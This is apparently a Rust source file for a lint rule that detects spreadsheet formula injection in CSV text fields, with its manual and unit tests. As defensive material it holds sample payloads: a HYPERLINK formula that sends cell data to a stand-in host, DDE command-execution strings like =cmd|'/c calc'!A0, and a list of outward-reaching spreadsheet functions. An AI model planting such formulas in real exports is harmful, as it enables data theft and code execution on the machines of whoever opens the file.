//! A text would run as a formula if somebody opened the file in a spreadsheet.
//!
//! # What it checks
//!
//! Filled cells of text columns that a spreadsheet would calculate: `=` before a letter, a digit, a quote, a bracket or a sign; and
//! after `+`, `-` or `@` only what harms: a function that reaches outside (`HYPERLINK(`, `WEBSERVICE(`, `IMPORTXML(` and their like),
//! a function call after `@`, or a call of another program (`cmd|...!`). A remark that begins with a hyphen, `+1` or `@Anna` is ordinary,
//! and so are `=> see notes` and `== done`: the rule would be noise if it spoke of them. `="00123"` is `excel-text-guard`, `=#REF!` is
//! `excel-error-value`.
//!
//! # Why it matters to the receiving service
//!
//! Text that people type into a form may be an attack on whoever looks at the export: Excel offers to run it. And a formula that was meant
//! to give a value has not been calculated: the service stores the formula.
//!
//! # Example
//!
//! ```csv
//! EmailAddress,EffectiveDate,Remarks,Rating
//! sara.davis@contoso.com,2026-05-18T09:00:00Z,=HYPERLINK("http://example.com/?x="&A1),2-Below expectation
//! ```
//!
//! Find out who wrote this remark, and replace it.
//!
//! # Options
//!
//! None.
//!
//! # Fix
//!
//! None: a person has to look at it.

use super::{excel_error_value, excel_text_guard};
use crate::finding::Severity;
use crate::mapping::FieldKind;
use crate::rules::{Bytes, Cell, CellPlace, Check, Explanation, Rule};

/// See the manual above.
pub(super) const RULE: Rule = Rule {
    name: "formula-injection",
    severity: Severity::Warning,
    contract: false,
    fix: None,
    milder: None,
    options: &[],
    source: include_str!("formula_injection.rs"),
    check: Check::Cell {
        needs: Bytes::PLAIN.and(Bytes::NOT_UPN),
        place: CellPlace::Filled(&[FieldKind::Text]),
        fires,
        explain,
    },
};

/// Functions that fetch from, send to or start something outside of the sheet.
const REACHING: &[&str] = &[
    "hyperlink(",
    "webservice(",
    "filterxml(",
    "importxml(",
    "importdata(",
    "importhtml(",
    "importfeed(",
    "importrange(",
    "encodeurl(",
    "rtd(",
    "dde(",
];

fn fires(cell: &Cell<'_>) -> bool {
    let text = cell.text.trim();
    let formula = match text.as_bytes() {
        [b'=', b'#', ..] => return false,
        [
            b'=',
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'$' | b'(' | b'"' | b'\'' | b'+' | b'-' | b'@' | b'{',
            ..,
        ] => true,
        [b'@', b'A'..=b'Z' | b'a'..=b'z', ..] => is_call(&text[1..]) || reaches(text),
        [b'+' | b'-' | b'@', ..] => reaches(text),
        _ => false,
    };
    formula && excel_text_guard::guarded(text).is_none() && !excel_error_value::is_error(text)
}

/// Whether the text begins with a function's name in capitals and its opening bracket.
fn is_call(text: &str) -> bool {
    let name = text.bytes().take_while(|byte| byte.is_ascii_uppercase() || matches!(byte, b'.' | b'0'..=b'9')).count();
    name > 1 && text.as_bytes().get(name) == Some(&b'(')
}

/// Whether the text calls a function that reaches outside, or another program (`cmd|'/c calc'!A0`).
fn reaches(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    let program = || {
        text.split_once('|').is_some_and(|(before, after)| {
            before.ends_with(|c: char| c.is_ascii_alphanumeric())
                && after.split_once('!').is_some_and(|(_, cell)| cell.starts_with(|c: char| c.is_ascii_alphanumeric()))
        })
    };
    REACHING.iter().any(|name| text.split(name).skip(1).any(|behind| !is_ending(behind))) || program()
}

/// Whether the bracket holds the ending of a word, as in `hyperlink(s)`.
fn is_ending(behind: &str) -> bool {
    let letters = behind.bytes().take_while(u8::is_ascii_lowercase).count();
    (1..4).contains(&letters) && behind.as_bytes().get(letters) == Some(&b')')
}

fn explain(cell: &Cell<'_>) -> Explanation {
    let message = if reaches(cell.text) {
        "the text is a formula that reaches outside of the sheet if somebody opens the file in a spreadsheet"
    } else {
        "the text is a formula for a spreadsheet, which nobody has calculated"
    };
    Explanation::new(message, "Find out where the text comes from, and write the value or the words that were meant.")
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::mapping::FieldKind::Text;
    use crate::rules::testing::lone::ask_kind;

    #[test]
    fn formulas_are_told_by_what_they_do() {
        let message = |text| ask_kind(&RULE, Text, text).map(|words| words.message).unwrap_or_default();
        for text in [
            "=HYPERLINK(\"http://x\")",
            "=cmd|'/c calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|'x'!A1",
            "@SUM(1)*cmd|'x'!A0",
        ] {
            assert!(message(text).contains("reaches outside"), "{text}");
        }
        for text in ["=A1", "=1+1", "=SUM(B2:B5)", "@SUM(1,2)", "=-B2", "=+B2", "='Sheet 2'!A1", "=VLOOKUP(A2;B:C;2;0)"]
        {
            assert!(message(text).contains("nobody has calculated"), "{text}");
        }
    }

    #[test]
    fn remarks_that_begin_with_a_sign_are_ordinary() {
        for text in [
            "- good",
            "-5 % on budget",
            "+1",
            "+49 170 1234",
            "@Anna: please see",
            "=> see notes",
            "== done ==",
            "= equal",
            "-Mitarbeiter(in) geht",
            "+ team (lead)",
            "@home",
            "- a | b!",
            "- broken hyperlink(s)",
            "-",
            "=",
            "=)",
            "--",
            "+/- 0",
            "=\"00123\"",
            "=#REF!",
            "Level = 5",
            "a=b",
        ] {
            assert!(ask_kind(&RULE, Text, text).is_none(), "{text}");
        }
    }
}
